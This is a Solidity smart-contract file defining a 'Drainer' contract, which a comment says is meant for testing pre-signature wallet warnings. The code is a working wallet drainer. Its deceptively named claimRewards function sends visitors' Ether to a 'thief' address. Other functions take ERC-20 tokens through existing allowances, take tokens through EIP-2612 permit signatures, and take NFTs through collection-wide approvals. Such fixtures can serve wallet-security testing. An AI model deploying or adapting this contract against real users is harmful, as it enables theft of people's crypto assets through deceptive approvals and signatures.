// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IToken {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s)
        external;
}

interface ICollection {
    function transferFrom(address from, address to, uint256 id) external;
}

/// Takes what visitors let it take, under names that sound harmless. For tests of warnings before a signature.
contract Drainer {
    address public immutable thief;

    constructor(address thief_) {
        thief = thief_;
    }

    /// Keeps all Ether that is sent along.
    function claimRewards() external payable {
        (bool isTaken,) = thief.call{value: msg.value}("");
        require(isTaken);
    }

    /// Takes tokens by allowances that were given before.
    function drain(address owner, IToken[] calldata tokens, uint256[] calldata amounts) external {
        for (uint256 i = 0; i < tokens.length; i++) tokens[i].transferFrom(owner, thief, amounts[i]);
    }

    /// Takes a token by a signature that was given without a transaction. EIP-2612.
    function drainWithPermit(IToken token, address owner, uint256 amount, uint256 deadline, uint8 v, bytes32 r, bytes32 s)
        external
    {
        token.permit(owner, address(this), amount, deadline, v, r, s);
        token.transferFrom(owner, thief, amount);
    }

    /// Takes collectibles by `setApprovalForAll`.
    function drainCollection(ICollection collection, address owner, uint256[] calldata ids) external {
        for (uint256 i = 0; i < ids.length; i++) collection.transferFrom(owner, thief, ids[i]);
    }
}
